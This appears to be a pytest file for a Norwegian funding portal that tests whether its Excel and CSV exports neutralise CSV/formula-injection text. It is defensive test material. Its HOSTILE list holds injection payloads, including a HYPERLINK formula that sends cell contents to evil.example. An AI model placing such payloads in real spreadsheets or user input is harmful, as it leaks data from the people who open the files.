"""User text in Excel and CSV exports never becomes a live formula (CSV/formula injection).

Every exporter is driven through its real view with hostile text in the data it exports;
the file is then opened again and every cell checked."""

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from rsportal.core import spreadsheets
from rsportal.followup.models import Report
from rsportal.funding import domain as funding
from rsportal.funding.models import Appropriation, Commitment, Grant, Pot, PotYear

from .test_assessment import forward_all, round_  # noqa: F401 (round_ is a fixture)

M = 1_000_000
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klikk")', "+1+1", "-2+3", "@SUM(A1)", "  =1+1", "\t=1+1", "\r=1+1"]


def cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_no_formulas(content: bytes, expected: list[str]) -> list:
    """No cell is a formula, and each hostile text is there literally, as a quote-prefixed text cell."""
    found = cells(content)
    assert not [c.coordinate for c in found if c.data_type == "f"]
    for text in expected:
        matches = [c for c in found if c.value == text]
        assert matches, f"{text!r} is missing from the workbook"
        assert all(c.data_type == "s" and c.quotePrefix for c in matches)
    return found


# --- the helpers ---


@pytest.mark.parametrize("text", HOSTILE)
def test_risky_text_is_neutralised(text):
    assert spreadsheets.safe_text(text) == "'" + text
    sheet = Workbook().active
    spreadsheets.append_row(sheet, [text])
    assert sheet["A1"].data_type == "s" and sheet["A1"].quotePrefix and sheet["A1"].value == text


@pytest.mark.parametrize("text", ["Trygg hjemkomst", "Tromsø – Harstad", "e-post: a@b.no", "1+1", "#N/A", ""])
def test_ordinary_text_is_left_alone(text):
    assert spreadsheets.safe_text(text) == text
    sheet = Workbook().active
    spreadsheets.append_row(sheet, ["x", text])
    assert sheet["B1"].value == text and sheet["B1"].data_type == "s" and not sheet["B1"].quotePrefix


def test_numbers_and_dates_stay_numbers_and_dates():
    values = [-400_000, -2.5, Decimal("-12.5"), 0, datetime.date(2026, 3, 1), None, True]
    assert spreadsheets.csv_row(values) == values
    sheet = Workbook().active
    spreadsheets.append_row(sheet, values)
    assert [c.data_type for c in sheet[1]] == ["n", "n", "n", "n", "d", "n", "b"]
    assert sheet["A1"].value == -400_000 and not sheet["A1"].quotePrefix


def test_csv_writer_neutralises_every_row():
    buffer = io.StringIO()
    writer = spreadsheets.csv_writer(buffer, lineterminator="\n")
    writer.writerow(["=1+1", -5, "ok"])
    writer.writerows([["@SUM(A1)"], ["-2+3"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=1+1", "-5", "ok"], ["'@SUM(A1)"], ["'-2+3"]]


# --- the exporters, through their views ---


def test_ranking_workbook(world, personas, round_, login):  # noqa: F811
    call, apps = round_
    apps[0].title = HOSTILE[0]
    apps[0].save(update_fields=["title"])
    criterion = call.criteria.first()
    criterion.name = "+1+1"
    criterion.save(update_fields=["name"])
    forward_all(world, personas, call, apps)
    criteria = list(call.criteria.all())
    from rsportal.assessment import domain as assessment

    comments = ["-2+3", "@SUM(A1)"] + [""] * (len(criteria) - 2)
    for app in apps:
        assessment.save_scores(personas.member, app, {c.pk: (3, text) for c, text in zip(criteria, comments)})

    response = login(personas.rhf_admin).get(f"/vurdering/utlysning/{call.pk}/rangering.xlsx")

    assert response.status_code == 200
    # The criterion name is a cell of its own in "Poeng per medlem" (and part of a header elsewhere).
    assert_no_formulas(response.content, [HOSTILE[0], "-2+3", "@SUM(A1)", "+1+1"])
    # Scores stay numbers.
    detail = load_workbook(io.BytesIO(response.content))["Poeng per medlem"]
    header = next(c.row for c in detail["A"] if c.value == "Søknad")
    assert {row[3] for row in detail.iter_rows(min_row=header + 1, values_only=True)} == {3}


@pytest.fixture
def hostile_grant(world, personas):
    """A grant in Helse Nord whose title, round and report are hostile text."""
    funding.book_appropriation(personas.sysadmin, Appropriation.objects.create(year=2025, name="RS 2025", amount=10 * M, rhf=world.rhf))
    grant = Grant.objects.create(pot=funding.root_pot(world.rhf), title=HOSTILE[0], helsefellesskap=world.hf, round_label="@SUM(A1)")
    grant.municipalities.add(world.tromso)
    funding.commit_grant(personas.sysadmin, grant=grant, amounts={2025: 2 * M})
    Report.objects.create(
        grant=grant,
        progress="on_track",
        progress_text="I gang",
        owner="Tromsø",
        agreements="formal",
        user_involvement="Brukerråd",
        effects="+1+1",
        lessons="-2+3",
        spreading="\t=1+1",
        submitted_by=personas.applicant,
    )
    return grant


def test_annual_report_workbook(personas, hostile_grant, login):
    response = login(personas.rhf_admin).get("/oppfolging/rhf/HN/arsmelding-2025.xlsx")
    assert response.status_code == 200
    assert_no_formulas(response.content, [HOSTILE[0], "+1+1", "-2+3", "\t=1+1"])
    row = next(r for r in load_workbook(io.BytesIO(response.content)).active.iter_rows() if r[0].value == HOSTILE[0])
    assert row[3].value == 2 * M and row[3].data_type == "n"


def test_project_list_workbook(personas, hostile_grant, login):
    response = login(personas.rhf_admin).get("/oppfolging/rhf/HN/prosjektliste.xlsx")
    assert response.status_code == 200
    assert_no_formulas(response.content, [HOSTILE[0], "@SUM(A1)"])


@pytest.fixture
def hostile_community(world):
    """A helsefellesskap with a hostile name and money in 2026 (statistics per inhabitant)."""
    world.hf.name = "-2+3"
    world.hf.save(update_fields=["name"])
    pot = Pot.objects.create(rhf=world.rhf, kind=Pot.Kind.ROOT, name="Samlet HN")
    grant = Grant.objects.create(pot=pot, title="Trygg hjemkomst", helsefellesskap=world.hf)
    grant.municipalities.add(world.tromso)
    Commitment.objects.create(pot_year=PotYear.objects.create(pot=pot, year=2026), kind=Commitment.Kind.GRANT, amount=M, grant=grant)
    return world.hf


def test_statistics_csv(client, hostile_community):
    for query, delimiter in (("", ";"), ("&format=maskinlesbar", ",")):
        response = client.get(f"/statistikk/helsefellesskap.csv?ar=2026{query}")
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=delimiter))
        names = [r[0] for r in rows[1:]]
        assert "'-2+3" in names and "-2+3" not in names
        assert not [value for row in rows for value in row if spreadsheets.is_risky(value)]


@pytest.mark.parametrize("url", ["/statistikk/helsefellesskap.xlsx?ar=2026", "/statistikk/alle.xlsx?ar=2026"])
def test_statistics_workbooks(client, hostile_community, url):
    response = client.get(url)
    assert response.status_code == 200
    found = assert_no_formulas(response.content, ["-2+3"])
    row = next(c.row for c in found if c.value == "-2+3")
    sheet = load_workbook(io.BytesIO(response.content))["Helsefellesskap"]
    assert sheet.cell(row=row, column=3).value == M and sheet.cell(row=row, column=3).data_type == "n"


# --- no writer goes around the helpers ---


def test_every_spreadsheet_writer_uses_the_helpers():
    """A new exporter that writes with openpyxl or the csv module directly would skip the
    neutralising and the Norwegian layout; this fails until it goes through
    rsportal.core.workbooks (which writes every cell with rsportal.core.spreadsheets)."""
    root = Path(__file__).resolve().parent.parent / "rsportal"
    writers = {root / "core" / "spreadsheets.py", root / "core" / "workbooks.py"}
    offenders = []
    for path in sorted(root.rglob("*.py")):
        if path in writers or "migrations" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        name = str(path.relative_to(root))
        if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
            offenders.append(f"{name}: csv writer")
        if re.search(r"^\s*(from|import) openpyxl", text, re.MULTILINE):
            offenders.append(f"{name}: openpyxl")
        if re.search(r"\bWorkbook\(", text):
            offenders.append(f"{name}: Workbook()")
        # Worksheets are the names bound to a sheet-making call; none is written to directly.
        for sheet in set(re.findall(r"(\w+) = \w+\.(?:active|create_sheet\(|add_sheet\()", text)):
            if re.search(rf"\b{sheet}\.(append|cell)\(|\b{sheet}\[[^]]+\]\s*=", text):
                offenders.append(f"{name}: {sheet} written directly")
    assert not offenders
    # The two writers themselves: workbooks adds rows only through the safe helper.
    workbook_module = (root / "core" / "workbooks.py").read_text(encoding="utf-8")
    assert "from .spreadsheets import append_row, csv_writer" in workbook_module
    assert not re.search(r"sheet\.append\(|\.value\s*=|csv\.writer\(", workbook_module)
